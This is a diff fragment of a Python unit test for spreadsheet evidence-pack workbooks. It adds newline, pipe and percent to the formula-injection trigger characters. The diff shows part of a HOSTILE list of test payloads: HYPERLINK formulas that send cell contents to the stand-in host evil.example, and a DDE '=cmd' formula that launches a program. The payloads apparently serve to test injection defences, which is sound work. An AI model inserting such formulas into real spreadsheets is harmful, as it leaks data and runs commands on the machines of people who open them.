@@ -19,7 +19,7 @@ from supplychain.evidence.verify import INTACT, verify_pack
 from supplychain.evidence.workbook import Column, PackWorkbook, Sheet
 from tests.unit.evidence.packs import KEY, WHEN, build, make_data, members
 
-TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
+TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\n", "|", "%"]
 HOSTILE = [
     *(f'{t}HYPERLINK("http://evil.example/?"&A1,"click")' for t in TRIGGERS),
     "=cmd|' /C calc'!A0",
